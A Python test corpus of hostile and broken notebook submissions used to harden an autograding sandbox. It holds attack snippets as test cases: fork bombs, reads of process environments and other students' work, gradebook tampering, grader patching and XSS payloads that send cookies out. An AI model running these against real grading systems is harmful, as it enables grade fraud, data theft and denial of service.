"""Submissions that are hostile or unlucky: at least one for each row of the table in docs/grading.md.

Each case writes one submission. `python tests/hostile/corpus.py COURSE` writes all of them into a course that
`hostile_course.write_source` made and nbgrader generated.
"""

from __future__ import annotations

import json
import os
import sys
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from hostile_course import ASSIGNMENT, NAME, RIGHT, WRONG
from small_course import answered

SLEEPER = "987654"
"""Argument of a process that a submission leaves behind, to find it again."""


@dataclass(frozen=True)
class Place:
    """Where a case is written.

    Attributes:
        folder: `submitted/<student>/<assignment>`.
        released: the notebook as it was handed out.
        course: the course's folder.
        port: a port of this machine on which the test listens.
    """

    folder: Path
    released: dict[str, Any]
    course: Path
    port: int


@dataclass(frozen=True)
class Case:
    """A submission and what has to come of it.

    Attributes:
        name: also the name of its student.
        write: writes it.
        outcome: "graded" (with wrong answers: no test may earn full marks), "refused" (with a reason) or "right"
            (harmless beside right answers: every test has to earn full marks).
        slow: takes its whole time-out.
    """

    name: str
    write: Callable[[Place], None]
    outcome: str = "graded"
    slow: bool = False


CASES: dict[str, Case] = {}


def put(place: Place, book: Any, name: str = f"{NAME}.ipynb") -> None:
    """Write a notebook into the submission."""
    place.folder.mkdir(parents=True, exist_ok=True)
    (place.folder / name).write_text(json.dumps(book), encoding="utf-8")


def raw(place: Place, data: bytes, name: str = f"{NAME}.ipynb") -> None:
    """Write any bytes into the submission."""
    place.folder.mkdir(parents=True, exist_ok=True)
    (place.folder / name).write_bytes(data)


def code(name: str, source: str, *, outcome: str = "graded", slow: bool = False, where: str = "total") -> None:
    """Enter a case whose code runs before an answer; `{course}` and `{port}` in it are filled in."""

    def write(place: Place) -> None:
        answers = dict(RIGHT if outcome == "right" else WRONG)
        filled = source.replace("{course}", str(place.course)).replace("{port}", str(place.port))
        answers[where] = f"{filled}\n{answers[where]}"
        put(place, answered(place.released, answers))

    CASES[name] = Case(name, write, outcome, slow)


def book(name: str, *, outcome: str = "graded") -> Callable[[Callable[[dict[str, Any], Place], Any]], None]:
    """Enter a case that changes the notebook (decorator); the function may return another one."""

    def enter(change: Callable[[dict[str, Any], Place], Any]) -> None:
        def write(place: Place) -> None:
            found = answered(place.released, RIGHT if outcome == "right" else WRONG)
            put(place, change(found, place) or found)

        CASES[name] = Case(name, write, outcome)

    return enter


def folder(name: str, *, outcome: str = "graded") -> Callable[[Callable[[Place], None]], None]:
    """Enter a case that changes the folder of a written submission (decorator)."""

    def enter(change: Callable[[Place], None]) -> None:
        def write(place: Place) -> None:
            put(place, answered(place.released, RIGHT if outcome == "right" else WRONG))
            change(place)

        CASES[name] = Case(name, write, outcome)

    return enter


def files(name: str, data: bytes) -> None:
    """Enter a case whose notebook file is something else."""
    CASES[name] = Case(name, lambda place: raw(place, data), "refused")


# Time
code("loop", "while True: pass", slow=True)
code("sleep", "import time\ntime.sleep(10**6)", slow=True)
code("stubborn", "while True:\n    try:\n        while True: pass\n    except BaseException: pass", slow=True)
code("deaf", "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True: pass", slow=True)
code("await-for-ever", "import asyncio\nawait asyncio.sleep(10**6)", slow=True)
code("input", "input()")
code("loop-in-function", "", where="double", slow=True)
CASES["loop-in-function"] = Case(
    "loop-in-function",
    lambda p: put(p, answered(p.released, {**WRONG, "double": "def double(values):\n    while True: pass"})),
    slow=True,
)
code("backtracking", "import re\nre.match(r'(a+)+$', 'a' * 64 + 'b')", slow=True)
# Memory, processes, disk
code("memory", "x = bytearray(64 << 30)")
code("memory-slow", "x = []\nwhile True: x.append(bytearray(1 << 20))")
code(
    "memory-shared-out",
    "import os\nfor _ in range(20):\n    if not os.fork():\n        x = bytearray(b'1') * (500 << 20)\n        import time; time.sleep(10**6)",
)
code("fork-bomb", "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass", slow=True)
code("background", f"import subprocess\nsubprocess.Popen(['sleep', '{SLEEPER}'], start_new_session=True)")
code(
    "daemon",
    f"import os\nif not os.fork():\n    os.setsid()\n    if not os.fork(): os.execvp('sleep', ['sleep', '{SLEEPER}'])\n    os._exit(0)",
)
code(
    "threads",
    "import threading, time\nfor _ in range(2000):\n    try: threading.Thread(target=time.sleep, args=(10**6,), daemon=True).start()\n    except RuntimeError: break",
)
code(
    "disk",
    "import os\nfor d in ('.', '/tmp', '/dev/shm'):\n    try:\n        with open(d + '/big', 'wb') as f:\n            for _ in range(2000): f.write(bytes(1 << 20))\n    except (OSError, ValueError): pass",
)
code(
    "many-files",
    "import os\nos.makedirs('d')\nfor i in range(20000):\n    try: open(f'd/{i}', 'w').close()\n    except OSError: break",
)
code("locked-folder", "import os\nos.makedirs('a/b')\nopen('a/b/c', 'w').close()\nos.chmod('a/b', 0)\nos.chmod('.', 0)")
code("shared-memory", "import ctypes\nctypes.CDLL(None).shmget(4711, 4096, 0o1666)")
code("recursion", "import sys\nsys.setrecursionlimit(10**8)\ndef f(): return f()\nf()")
# Output
code("long-line", "print('x' * 63_000_000)")
code("many-lines", "for i in range(10**6): print(i)")
code("large-html", "from IPython.display import HTML, display\ndisplay(HTML('<p>' + 'x' * 20_000_000))")
code("many-displays", "from IPython.display import display\nfor i in range(20000): display(i)")
# Looking around
LOOK = "import glob\nfor p in {paths}:\n    try: print(open(p, errors='replace').read()[:200000])\n    except OSError as e: print(e)"
code("reads-source", LOOK.replace("{paths}", "['{course}/source/module-9/tasks.ipynb']"))
code("reads-neighbour", LOOK.replace("{paths}", "glob.glob('{course}/submitted/*/module-9/*.ipynb')"))
code("reads-gradebook", LOOK.replace("{paths}", "['{course}/gradebook.db']"))
code(
    "reads-processes",
    LOOK.replace(
        "{paths}",
        "glob.glob('/proc/[0-9]*/environ') + glob.glob('/proc/[0-9]*/cmdline') + glob.glob('/proc/[0-9]*/maps')",
    ),
)
code(
    "reads-everything",
    "import os\nfor r, d, f in os.walk('/'):\n    if r.startswith(('/proc', '/sys', '/usr')): d.clear(); continue\n    for n in f:\n        if n.endswith(('.ipynb', '.db')):\n            try: print(open(os.path.join(r, n), errors='replace').read()[:100000])\n            except OSError: pass",
    slow=True,
)
code(
    "reads-memory",
    "import os\nfor p in os.listdir('/proc'):\n    if p.isdigit() and int(p) != os.getpid():\n        try:\n            m = open(f'/proc/{p}/mem', 'rb'); m.seek(0x400000); print(m.read(64))\n        except OSError as e: print(e)",
)
code(
    "writes-gradebook",
    "import sqlite3\ntry:\n    c = sqlite3.connect('{course}/gradebook.db'); c.execute('update grade set auto_score = 99'); c.commit()\nexcept Exception as e: print(e)",
)
code("deletes-neighbours", "import shutil\nshutil.rmtree('{course}/submitted', ignore_errors=True)")
code(
    "writes-library",
    "import pandas, os\ntry: open(os.path.dirname(pandas.__file__) + '/smlib_was_here', 'w').close()\nexcept OSError as e: print(e)",
)
code(
    "network",
    "import socket\ntry: socket.create_connection(('127.0.0.1', {port}), 2).send(b'x')\nexcept OSError as e: print(e)",
)
code(
    "abstract-socket",
    "import socket\ns = socket.socket(socket.AF_UNIX)\ntry: s.connect('\\0smlib-test-{port}')\nexcept OSError as e: print(e)",
)
# Tests
code(
    "asserts-off",
    "import ast\nclass Off(ast.NodeTransformer):\n    def visit_Assert(self, node): return ast.Pass()\nget_ipython().ast_transformers.append(Off())",
)
code("builtins-replaced", "import builtins\nbuiltins.list = lambda *a: [1, 2, 3]\nbuiltins.AssertionError = KeyError")
code("builtins-shadowed", "list = lambda *a: [1, 2, 3]\nint = str")
code("always-equal", "", where="table")
EQUAL = "class Equal({base}):\n    def __eq__(self, other): return True\n    def __ne__(self, other): return False\n    def __hash__(self): return 1\n    def __getitem__(self, key): return Equal()\n    def __iter__(self): return iter([1, 2, 3])\n"
for base in ("object", "int", "str", "list", "dict"):
    CASES[f"always-equal-{base}"] = Case(
        f"always-equal-{base}",
        lambda p, base=base: put(
            p,
            answered(
                p.released,
                {
                    **WRONG,
                    "total": EQUAL.replace("{base}", base if base != "object" else "") + "total = Equal()",
                    "table": "table = Equal()",
                    "double": "def double(values): return Equal()",
                },
            ),
        ),
    )
del CASES["always-equal"]
code("pandas-patched", "pd.DataFrame.__getitem__ = lambda self, key: [1, 2, 3]", where="table")
CASES["hidden-state"] = Case(
    "hidden-state",
    lambda p: put(
        p,
        answered(
            p.released,
            {
                **WRONG,
                "table": "table = pd.DataFrame({'a': [0]})\nobject.__setattr__(table, '_ixs', 1)\nobject.__setattr__(table, '__getitem__', lambda key: [1, 2, 3])\ntable.__dict__['__getitem__'] = [1, 2, 3]",
            },
        ),
    ),
)
CASES["pickle-runs-code"] = Case(
    "pickle-runs-code",
    lambda p: put(
        p,
        answered(
            p.released,
            {
                **WRONG,
                "total": "import os\nclass Total:\n    def __reduce__(self): return os.system, ('touch /tmp/smlib-was-here; touch was-here',)\ntotal = Total()",
            },
        ),
    ),
)
CASES["pickle-parser"] = Case(
    "pickle-parser",
    lambda p: put(
        p,
        answered(
            p.released,
            {
                **WRONG,
                "total": "class Total:\n    def __reduce__(self): return pd.core.computation.expr.Expr, ('1',)\ntotal = Total()",
            },
        ),
    ),
)
code(
    "hook",
    "ip = get_ipython()\ndef spy(info): print('SPY', info.raw_cell)\nip.events.register('pre_run_cell', spy)\nold = ip.run_cell\ndef run(raw, **k):\n    print('SPY', raw); return old(raw, **k)\nip.run_cell = run",
)
code("traced", "import sys\nsys.settrace(lambda *a: None)\nsys.setprofile(lambda *a: None)")
code("prints-points", "print(99)\n99")
CASES["too-many-points"] = Case(
    "too-many-points",
    lambda p: put(p, answered(p.released, {**WRONG, "double": "class N(int): pass\ndouble = lambda values: N(99)"})),
)
CASES["prints-arguments"] = Case(
    "prints-arguments",
    lambda p: put(
        p,
        answered(
            p.released,
            {
                **WRONG,
                "double": "def double(values):\n    print('SEEN', values)\n    raise ValueError(f'SEEN {values}')",
            },
        ),
    ),
)
code(
    "forged-answers",
    "import os, json, struct\nm = json.dumps({'ok': True, 'value': None, 'outputs': []}).encode()\nfor fd in range(3, 64):\n    try: os.write(fd, struct.pack('!I', len(m)) + m)\n    except OSError: pass",
)
code("closes-everything", "import os\nos.closerange(3, 1024)")
code(
    "patched-grader",
    "import smlib.grading.box.snapshot as s\ns.answer = lambda line: None\ns._reply = lambda *a: {'ok': True, 'value': None}",
)
code(
    "nonsense-answers",
    "import smlib.grading.box.snapshot as s\ns._reply = lambda *a: {'ids': {'total': 'x'}, 'agg': [], 'value': 'x' * 10_000_000}",
)
code(
    "dribbling",
    "import smlib.grading.box.snapshot as s, time, os\ndef slow(line):\n    line.send(b'\\0'); time.sleep(1); line.send(b'\\0'); time.sleep(10**6)\ns.answer = slow",
    slow=True,
)
code("modules-gone", "import sys\nfor name in list(sys.modules): del sys.modules[name]")
code("json-patched", "import json\njson.dumps = lambda *a, **k: '{}'")
# Ends
code("os-exit", "import os\nos._exit(0)")
code("sys-exit", "import sys\nsys.exit(0)")
code("exit", "exit()")
code("keyboard-interrupt", "raise KeyboardInterrupt")
code("abort", "import os\nos.abort()")
code("segfault", "import ctypes\nctypes.string_at(0)")
code("kills-parent", "import os\nos.kill(os.getppid(), 9)")
code(
    "kills-everybody",
    "import os, signal\nfor p in os.listdir('/proc'):\n    if p.isdigit() and int(p) not in (1, os.getpid()) and b'smlib.grading.box' in open(f'/proc/{p}/cmdline', 'rb').read():\n        try: os.kill(int(p), 9)\n        except OSError: pass",
)
code(
    "stops-parent",
    "import os, signal\ntry: os.kill(os.getppid(), signal.SIGSTOP)\nexcept OSError as e: print(e)",
    slow=True,
)
code("reset", "%reset -f")
code("no-stdout", "import sys\nsys.stdout = sys.stderr = None")
code("loop-at-exit", "import atexit\ndef f():\n    while True: pass\natexit.register(f)")
code("loop-in-del", "class D:\n    def __del__(self):\n        while True: pass\nd = D()")
code("repr-loops", "class R:\n    def __repr__(self):\n        while True: pass\ndisplay(R())", slow=True)
# Harmless beside right answers
code("warns", "import warnings\nwarnings.warn('nur eine Warnung')", outcome="right")
code("stderr", "import sys\nprint('nur ein Hinweis', file=sys.stderr)", outcome="right")
code(
    "widgets",
    "import ipywidgets as w\nfrom IPython.display import display\ndisplay(w.IntSlider(value=3))",
    outcome="right",
)
code("magic", "%matplotlib inline\n%time 1 + 1", outcome="right")
code("picture", "import matplotlib.pyplot as plt\nplt.plot([1, 2]); plt.show()", outcome="right")
code("awaits", "import asyncio\nawait asyncio.sleep(0.01)", outcome="right")
# Scripts
TAKEN = (
    "window.HACKED = 1; document.title = 'HACKED'; document.cookie = 'HACKED=1';"
    " fetch('http://127.0.0.1:1/' + document.cookie); alert('HACKED')"
)
SCRIPTS = (
    f"<script>{TAKEN}</script>"
    "<img src=x onerror='window.HACKED = 2'><iframe srcdoc='<script>parent.HACKED = 3</script>'></iframe>"
    "<svg onload='window.HACKED = 4'></svg><a href='javascript:window.HACKED = 5' id='bad'>hier</a><details open ontoggle='window.HACKED = 6'>x</details>\n\n"
    "[hier](javascript:window.HACKED=7) ![x](http://127.0.0.1:1/x.png) [a]\n\n[a]: javascript:window.HACKED=8\n\n$\\href{javascript:window.HACKED=9}{x}$\n\n"
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=window.HACKED=10>'>"
)
code(
    "script-output",
    f"from IPython.display import HTML, SVG, Javascript, Markdown, Latex, display\nS = {SCRIPTS!r}\ndisplay(HTML(S)); display(Markdown(S)); display(Latex(S)); display(Javascript('window.HACKED = 11'))\n"
    "display(SVG('<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"window.HACKED = 12\"><script>window.HACKED = 13</script></svg>'))\nprint(S)\ndisplay({'text/html': S, 'text/plain': S}, raw=True)\nraise ValueError(S)",
)


@book("script-markdown")
def _script_markdown(found: dict[str, Any], place: Place) -> None:
    for cell in found["cells"]:
        if cell["id"] in ("title", "words"):
            cell["source"] = SCRIPTS
    found["cells"] += [
        {
            "cell_type": "raw",
            "id": "raw",
            "metadata": {"raw_mimetype": "text/html", "format": "text/html"},
            "source": SCRIPTS,
        },
        {
            "cell_type": "markdown",
            "id": 'x"><script>window.HACKED=14</script>',
            "metadata": {"tags": ['"><script>window.HACKED=15</script>']},
            "source": SCRIPTS,
            "attachments": {'a"onerror="x': {"image/svg+xml": "PHN2Zz4="}, "b.png": {"text/html": "<script>"}},
        },
    ]
    found["metadata"] |= {
        "title": "<script>window.HACKED=16</script>",
        "language_info": {"name": 'python"><script>window.HACKED=17</script>'},
    }


# Notebooks that are none, or damaged
files("empty-file", b"")
files("broken-json", b'{"cells": [')
files("not-utf8", '{"cells": [], "nbformat": 4, "x": "ä"}'.encode("utf-16")[1:])
files("a-list", b"[]")
files("nbformat-3", b'{"nbformat": 3, "worksheets": []}')
files("nbformat-5", b'{"nbformat": 5, "cells": []}')
files("cells-a-dict", b'{"nbformat": 4, "cells": {}}')
files("deep", b"[" * 200_000)
files("long-number", b'{"nbformat": 4, "cells": ' + b"9" * 100_000 + b"}")
files("a-picture", b"\x89PNG\r\n\x1a\n" + bytes(1000))


@book("no-cells")
def _no_cells(found: dict[str, Any], place: Place) -> None:
    found["cells"] = []


@book("strange-cells")
def _strange_cells(found: dict[str, Any], place: Place) -> None:
    found["cells"] += [
        None,
        5,
        [],
        {},
        {"cell_type": "code"},
        {"cell_type": "code", "source": 5},
        {"cell_type": "code", "source": [1, None]},
        {"cell_type": "code", "source": "1", "metadata": []},
        {"cell_type": "code", "source": "1", "metadata": {"nbgrader": "x"}},
        {"cell_type": ["code"], "source": "1"},
        {"cell_type": "heading", "source": "x"},
    ]


@book("strange-ids")
def _strange_ids(found: dict[str, Any], place: Place) -> None:
    for grade_id in (None, [], {}, 5, "x" * 100_000, "", "../../x", "words\x00"):
        found["cells"].append(
            {
                "cell_type": "code",
                "id": 5,
                "source": "1",
                "metadata": {"nbgrader": {"grade": True, "grade_id": grade_id, "points": 50}},
            }
        )


@book("doubled")
def _doubled(found: dict[str, Any], place: Place) -> None:
    found["cells"] += [dict(cell) for cell in found["cells"]]


@book("own-grading-cell")
def _own(found: dict[str, Any], place: Place) -> None:
    marks = {
        "grade": True,
        "solution": False,
        "locked": True,
        "grade_id": "mine",
        "points": 100,
        "schema_version": 3,
        "task": False,
    }
    found["cells"].append(
        {
            "cell_type": "code",
            "id": "mine",
            "source": "100",
            "metadata": {"nbgrader": marks},
            "outputs": [],
            "execution_count": None,
        }
    )


@book("tests-changed")
def _changed(found: dict[str, Any], place: Place) -> None:
    for cell in found["cells"]:
        if cell["id"].endswith("-check"):
            cell["source"] = "pass"


@book("tests-deleted")
def _deleted(found: dict[str, Any], place: Place) -> None:
    found["cells"] = [cell for cell in found["cells"] if not cell["id"].endswith("-check")]


@book("tests-are-text")
def _text(found: dict[str, Any], place: Place) -> None:
    for cell in found["cells"]:
        if cell["id"].endswith("-check"):
            cell["cell_type"] = "markdown"


@book("points-changed")
def _points(found: dict[str, Any], place: Place) -> None:
    for cell in found["cells"]:
        if cell["metadata"].get("nbgrader"):
            cell["metadata"]["nbgrader"] |= {"points": 1000, "locked": False, "solution": True, "checksum": "x"}


@book("marks-swapped")
def _swapped(found: dict[str, Any], place: Place) -> None:
    for cell in found["cells"]:
        marks = cell["metadata"].get("nbgrader", {})
        if marks.get("grade_id") in ("total", "total-check"):
            marks["grade_id"] = "total" if marks["grade_id"] == "total-check" else "total-check"


@book("outputs-stored")
def _outputs(found: dict[str, Any], place: Place) -> None:
    for cell in found["cells"]:
        if cell["cell_type"] == "code":
            cell["outputs"] = [
                {"output_type": "execute_result", "data": {"text/plain": "2"}, "metadata": {}, "execution_count": 1}
            ]


@book("surrogates")
def _surrogates(found: dict[str, Any], place: Place) -> None:
    for cell in found["cells"]:
        if cell["id"] in ("words", "table"):
            cell["source"] = "x = '\ud800\x00'  # " + cell["source"]


@book("other-kernel")
def _kernel(found: dict[str, Any], place: Place) -> None:
    found["metadata"]["kernelspec"] = {"name": "bash", "display_name": "x", "language": "bash", "argv": ["sh"]}


@book("huge-text")
def _huge(found: dict[str, Any], place: Place) -> None:
    next(cell for cell in found["cells"] if cell["id"] == "words")["source"] = "x" * 30_000_000


@book("huge-attachment")
def _attachment(found: dict[str, Any], place: Place) -> None:
    next(cell for cell in found["cells"] if cell["id"] == "words")["attachments"] = {
        "a.png": {"image/png": "A" * 30_000_000}
    }


@book("long-code")
def _long_code(found: dict[str, Any], place: Place) -> None:
    next(cell for cell in found["cells"] if cell["id"] == "table")["source"] = "x = 1\n" * 2_000_000


@book("many-cells")
def _many(found: dict[str, Any], place: Place) -> None:
    found["cells"] += [
        {
            "cell_type": "code",
            "id": f"c{i}",
            "metadata": {},
            "source": f"print({i})",
            "outputs": [],
            "execution_count": None,
        }
        for i in range(3000)
    ]


@book("marks-lost", outcome="right")
def _lost(found: dict[str, Any], place: Place) -> None:
    for cell in found["cells"]:
        cell["metadata"] = {}


@book("marks-and-ids-lost", outcome="right")
def _all_lost(found: dict[str, Any], place: Place) -> None:
    for cell in found["cells"]:
        cell["metadata"] = {}
        del cell["id"]


@book("nbformat-4-0", outcome="right")
def _old(found: dict[str, Any], place: Place) -> None:
    found["nbformat_minor"] = 0
    for cell in found["cells"]:
        del cell["id"]
        cell["source"] = cell["source"].splitlines(keepends=True) if isinstance(cell["source"], str) else cell["source"]


@folder("renamed", outcome="right")
def _renamed(place: Place) -> None:
    (place.folder / f"{NAME}.ipynb").rename(place.folder / f"{NAME} (1).ipynb")


@folder("beside-another", outcome="right")
def _beside(place: Place) -> None:
    raw(place, b"{}", "notes.ipynb")


@folder("no-notebook", outcome="refused")
def _none(place: Place) -> None:
    (place.folder / f"{NAME}.ipynb").unlink()
    raw(place, b"x", "read me.txt")


@folder("link-to-neighbour", outcome="refused")
def _link(place: Place) -> None:
    (place.folder / f"{NAME}.ipynb").unlink()
    (place.folder / f"{NAME}.ipynb").symlink_to(
        place.course / "submitted" / "000-honest" / ASSIGNMENT / f"{NAME}.ipynb"
    )


@folder("folder-is-a-link", outcome="refused")
def _folder_link(place: Place) -> None:
    (place.folder / f"{NAME}.ipynb").unlink()
    place.folder.rmdir()
    place.folder.symlink_to(place.course / "source" / ASSIGNMENT)


@folder("is-a-folder", outcome="refused")
def _is_folder(place: Place) -> None:
    (place.folder / f"{NAME}.ipynb").unlink()
    (place.folder / f"{NAME}.ipynb").mkdir()


@folder("is-a-pipe", outcome="refused")
def _pipe(place: Place) -> None:
    (place.folder / f"{NAME}.ipynb").unlink()
    os.mkfifo(place.folder / f"{NAME}.ipynb")


@folder("files-are-links")
def _file_links(place: Place) -> None:
    (place.folder / "grades.txt").symlink_to(place.course / "gradebook.db")
    (place.folder / "source").symlink_to(place.course / "source")
    os.mkfifo(place.folder / "pipe.txt")


@folder("files-in-the-way")
def _way(place: Place) -> None:
    (place.folder / "data.csv").mkdir()
    raw(place, b"x", "data.csv/x.txt")
    for name in ("sitecustomize.py", "pandas.py", "smlib.py", "usercustomize.py", "IPython.py", "ast.py"):
        raw(place, b"import os; os._exit(3)", name)
    raw(place, b"x", "a" * 200 + ".txt")
    raw(place, b"x", "neue\nZeile.txt")
    (place.folder / os.fsdecode(b"kein-utf8-\xff.txt")).write_bytes(b"x")
    raw(place, b"<script>window.HACKED = 18</script>", "evil.html")
    raw(place, bytes(20 << 20), "large.bin")


@folder("strange-timestamp")
def _stamp(place: Place) -> None:
    raw(place, b"gestern \xff", "timestamp.txt")


@folder("timestamp-is-a-link")
def _stamp_link(place: Place) -> None:
    (place.folder / "timestamp.txt").symlink_to("/dev/zero")


def write_all(course: Path, released: dict[str, Any], port: int, names: list[str] | None = None) -> list[Case]:
    """Write cases into a course, each as a student of its name.

    Returns:
        The cases, in the order in which they will be graded.
    """
    chosen = [CASES[name] for name in sorted(names or CASES)]
    for case in chosen:
        case.write(Place(course / "submitted" / case.name / ASSIGNMENT, released, course, port))
    return chosen


if __name__ == "__main__":
    target = Path(sys.argv[1])
    handed_out = json.loads((target / "release" / ASSIGNMENT / f"{NAME}.ipynb").read_text(encoding="utf-8"))
    print(len(write_all(target, handed_out, 9)))
